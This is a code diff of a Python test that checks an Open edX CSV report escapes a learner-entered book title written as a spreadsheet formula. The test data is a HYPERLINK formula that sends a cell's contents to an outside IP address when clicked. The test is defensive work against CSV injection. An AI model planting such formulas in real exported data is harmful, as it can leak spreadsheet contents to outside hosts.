@@ -114,8 +114,7 @@ def test_text_chosen_by_learners_reaches_the_problem_responses_csv_neutralised(r
     """Open edX writes these values into its CSV as they are: a book title that is a formula must not be one."""
     course = report_course
     formula = '=HYPERLINK("http://203.0.113.1/?"&A1,"click")'
-    fixtures.ok(course.client("lifelong_bookshelf", "ann").call("recommend", {"title": formula, "author": "Mallory"}))
-    rows = dict(report(course, "lifelong_bookshelf", ["ann"]))
-    titles = rows["ann"]["titles"]
-    assert titles.startswith("'") and formula in titles, titles
-    assert all(not str(value).startswith(("=", "+", "-", "@")) for value in rows["ann"].values())
+    fixtures.ok(course.client("lifelong_bookshelf", "-bob").call("recommend", {"title": formula, "author": "M"}))
+    rows = dict(report(course, "lifelong_bookshelf", ["-bob"]))
+    assert rows["-bob"]["titles"] == "'" + formula
+    assert all(not str(value).startswith(("=", "+", "-", "@")) for value in rows["-bob"].values())
